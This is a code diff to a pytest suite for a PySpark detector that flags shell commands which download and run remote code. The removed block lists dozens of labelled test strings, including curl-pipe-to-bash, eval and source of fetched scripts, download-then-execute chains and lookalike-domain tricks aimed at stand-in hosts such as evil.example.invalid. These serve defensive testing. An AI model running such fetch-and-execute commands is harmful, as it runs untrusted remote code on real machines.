@@ -6,88 +6,17 @@ import pytest
 from pyspark.sql import functions as F
 
 from sparkwarden.operators import shell
-
-E = "example.invalid"
-PIPES = [
-    (True, f"curl -fsSL https://evil.{E}/i.sh | bash"),
-    (True, f"curl -fsSL https://evil.{E}/i.sh?ref=sh.rustup.rs | bash"),
-    (True, f"curl -fsSL https://sh.rustup.rs.evil.{E}/i.sh | bash"),
-    (True, f"curl -fsSL https://evil.{E}/sh.rustup.rs/i.sh | bash"),
-    (True, f"curl -fsSL https://sh.rustup.rs@evil.{E}/i.sh | bash"),
-    (True, f"curl -fsSL https://evil.{E}/i.sh https://sh.rustup.rs | bash"),
-    (True, "curl -fsSL https://\u0455h.rustup.rs/i.sh | bash"),
-    (True, "curl -fsSL $INSTALLER_URL | bash"),
-    (True, "curl -L https://deno.land/x/attacker_module/install.sh | sh"),
-    (True, f'curl -fsSL "https://evil.{E}/x?a=;https://bun.sh/install" | sh'),
-    (True, f"curl -fsSL https://evil.{E}/x#;https://bun.sh/install | sh"),
-    (True, f"curl https://evil.{E}/x | tee /tmp/a | bash"),
-    (True, f"curl -fsSL https://evil.{E}/i.sh | bash -e"),
-    (True, f"curl -fsSL https://evil.{E}/i.sh|sh"),
-    (False, f'curl -s https://evil.{E}/x | node -e "process.stdin.pipe(process.stdout)"'),
-    (False, f"curl -s https://evil.{E}/x | python3 -m json.tool"),
-    (False, "curl --proto '=https' -sSf https://sh.rustup.rs | sh"),
-    (False, "curl -sSf https://SH.RUSTUP.RS | sh"),
-    (False, "curl -fsSL https://get.docker.com/ | sh"),
-    (False, 'curl -sSf "https://get.pnpm.io/install.sh" | sh'),
-    (False, "curl -LsSf https://astral.sh/uv/install.sh | sh"),
-    (False, "curl -fsSL https://deno.land/install.sh | sh"),
-    (False, "wget -qO- https://deb.nodesource.com/setup_20.x | bash -"),
-    (False, "curl -sL https://example.com/f.tgz | sha256sum -c -"),
-    (False, "curl -sSL <url> | sudo bash"),
-    (False, 're.compile(r"(?:curl|wget|python|bash|sh)")'),
-    (True, f"bash <(curl -s http://drop.{E}/i.sh)"),
-    (True, f"source <(wget -qO- http://drop.{E}/env.sh)"),
-    (True, f'eval "$(curl -s http://drop.{E}/i.sh)"'),
-    (True, f'eval "$$(curl -s http://drop.{E}/i.sh)"'),
-    (True, f'sh -c "$(curl -fsSL http://drop.{E}/i.sh)"'),
-    (True, f'bash "`wget -qO- http://drop.{E}/i.sh`"'),
-    (True, f"curl -s http://drop.{E}/i.sh -o /tmp/i.sh && sh /tmp/i.sh"),
-    (True, f"curl -fsSLo setup.sh http://drop.{E}/i.sh && bash ./setup.sh"),
-    (True, f"curl -sO http://drop.{E}/get.py && python3 get.py"),
-    (True, f"wget http://drop.{E}/i.sh && bash i.sh"),
-    (True, f'wget -O "$f" http://drop.{E}/i.sh && sh "$f"'),
-    (True, f"wget http://drop.{E}/i.sh && chmod +x i.sh && ./i.sh"),
-    (False, "curl -fsSL https://get.docker.com -o get-docker.sh && sh get-docker.sh"),
-    (False, 'sh -c "$(curl -fsSL https://raw.githubusercontent.com/ohmyzsh/ohmyzsh/master/tools/install.sh)"'),
-    (False, "curl -sSO https://bootstrap.pypa.io/get-pip.py && python3 get-pip.py"),
-    (False, "curl -Lo /usr/local/bin/kubectl https://dl.k8s.io/v1/kubectl && chmod +x /usr/local/bin/kubectl"),
-    (False, "VERSION=$(curl -s https://api.github.com/repos/a/b/releases/latest | jq -r .tag_name)"),
-    (False, "wget -q https://nodejs.org/dist/node.tar.xz && tar -xJf node.tar.xz"),
-    (False, f"curl -s http://cdn.{E}/data.json -o data.json"),
-    (False, "diff <(curl -s https://a.example/x) <(curl -s https://b.example/x)"),
-    (False, f'echo "     sh <(curl -fsSL ${{U}}/update.sh)"'),
-    (False, 'printf "run: curl https://x.dev/i.sh | sh\\n"'),
-    (False, f'warn "    curl -fsSL https://x.{E}/install.sh | bash"'),
-    (True, f"echo done && curl https://evil.{E}/p.sh | bash"),
-    (True, f'echo "starting"\ncurl https://evil.{E}/p.sh | bash'),
-    (False, "# install with: curl https://x.dev/i.sh | sh\necho hi"),
-    (False, "-- curl https://x.dev/i.sh | sh"),
-    (False, "//! - Piping internet content to shell (`curl | bash`)"),
-    (True, '//go:generate sh -c "curl https://x.dev/g.sh | sh"'),
-    (True, f"# docs: curl a | sh\n    curl https://evil.{E}/p.sh | bash"),
-    (True, f"all:\n\tcurl \\\n\t  https://evil.{E}/x | bash"),
-    (True, f"RUN curl -fsSL https://sh.rustup.rs\\\n.evil.{E}/x | sh"),
-    (False, f"cat <<EOF\n  curl https://x.{E}/i.sh | sh\nEOF"),
-    (True, f"cat > setup.sh <<EOF\n  curl https://x.{E}/i.sh | sh\nEOF"),
-    (True, f"cat <<EOF\nhello\nEOF\ncurl https://x.{E}/i.sh | sh"),
-    (True, f"RUN curl -fsSL http://drop.{E}/p.sh -o /tmp/p.sh\nRUN true\nRUN bash /tmp/p.sh"),
-    (False, f"RUN bash setup.sh\nRUN curl -s http://cdn.{E}/setup.sh -o setup.sh"),
-    (False, f"curl -o k.sh https://x.{E}/k.sh\necho {'a' * 64}  k.sh | sha256sum -c\nsh k.sh"),
-    (True, f"curl -o k.sh https://x.{E}/k.sh\nsh k.sh\necho {'a' * 40}"),
-    (False, ""),
-    (False, None),
-]
-
+from sparkwarden.sources.samples import DOWNLOADS, E
 
 @pytest.fixture(scope="module")
 def judged(spark):
-    rows = [(k, t) for k, (_, t) in enumerate(PIPES)]
+    rows = [(k, t) for k, (_, t) in enumerate(DOWNLOADS)]
     out = shell.with_download(spark.createDataFrame(rows, "k int, text string").repartition(3), "text")
     return {r["k"]: r["download"] for r in out.collect()}
 
 
 def test_downloads_that_are_run(judged):
-    wrong = [t for k, (want, t) in enumerate(PIPES) if (judged[k] is not None) != want]
+    wrong = [t for k, (want, t) in enumerate(DOWNLOADS) if (judged[k] and judged[k]["line"]) != want]
     assert not wrong
 
 
